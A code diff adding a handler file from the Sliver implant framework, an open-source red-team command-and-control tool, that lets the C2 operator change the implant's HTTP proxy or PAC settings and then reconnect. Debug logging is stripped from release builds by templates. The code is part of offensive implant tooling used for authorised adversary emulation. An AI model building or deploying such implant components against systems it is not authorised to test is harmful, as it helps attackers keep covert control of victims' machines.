@@ -0,0 +1,101 @@
+package handlers
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+// {{if .Config.HTTPc2Enabled}}
+
+import (
+	"errors"
+	"net/url"
+	"runtime"
+
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/implant/sliver/transports"
+	"github.com/bishopfox/sliver/implant/sliver/transports/httpclient"
+	"github.com/bishopfox/sliver/protobuf/commonpb"
+	pb "github.com/bishopfox/sliver/protobuf/sliverpb"
+	"google.golang.org/protobuf/proto"
+)
+
+func proxySetHandler(data []byte, resp RPCResponse) {
+	proxyReq := &pb.ProxySetReq{}
+	err := proto.Unmarshal(data, proxyReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("error decoding message: %v\n", err)
+		// {{end}}
+		return
+	}
+	proxyResp := &pb.ProxySet{Response: &commonpb.Response{}}
+	err = setProxyOverride(proxyReq)
+	if err != nil {
+		proxyResp.Response.Err = err.Error()
+	} else if override := httpclient.GetProxyOverride(); override != nil {
+		proxyResp.Proxy = override.Config
+		proxyResp.PAC = override.PAC
+	}
+	data, err = proto.Marshal(proxyResp)
+	resp(data, err)
+	if proxyResp.Response.Err == "" {
+		transports.Reconnect()
+	}
+}
+
+func setProxyOverride(proxyReq *pb.ProxySetReq) error {
+	if proxyReq.Clear {
+		// {{if .Config.Debug}}
+		log.Printf("[proxy] reset to the c2 url's settings")
+		// {{end}}
+		httpclient.SetProxyOverride(nil)
+		return nil
+	}
+	if proxyReq.PAC != "" {
+		if runtime.GOOS != "windows" {
+			return errors.New("{{if .Config.Debug}}pac files are only supported on windows{{end}}")
+		}
+		if _, err := url.Parse(proxyReq.PAC); err != nil {
+			return err
+		}
+	} else {
+		switch proxyReq.Proxy {
+		case "":
+			return errors.New("{{if .Config.Debug}}no proxy configuration{{end}}")
+		case "direct", "never", "auto":
+		default:
+			if _, err := url.Parse(proxyReq.Proxy); err != nil {
+				return err
+			}
+		}
+	}
+	// {{if .Config.Debug}}
+	log.Printf("[proxy] override proxy = '%s' pac = '%s'", proxyReq.Proxy, proxyReq.PAC)
+	// {{end}}
+	httpclient.SetProxyOverride(&httpclient.ProxyOverride{
+		Config:   proxyReq.Proxy,
+		PAC:      proxyReq.PAC,
+		Username: proxyReq.Username,
+		Password: proxyReq.Password,
+	})
+	return nil
+}
+
+// {{end}}